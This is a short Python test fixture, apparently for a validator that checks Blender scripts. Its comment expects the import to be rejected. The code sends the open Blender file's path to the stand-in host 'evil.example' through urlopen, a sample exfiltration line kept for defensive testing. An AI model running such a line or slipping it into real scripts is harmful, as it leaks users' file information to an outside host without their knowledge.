# expect: import-not-allowed
import bpy
from urllib.request import urlopen
urlopen("http://evil.example/?f=" + bpy.data.filepath)
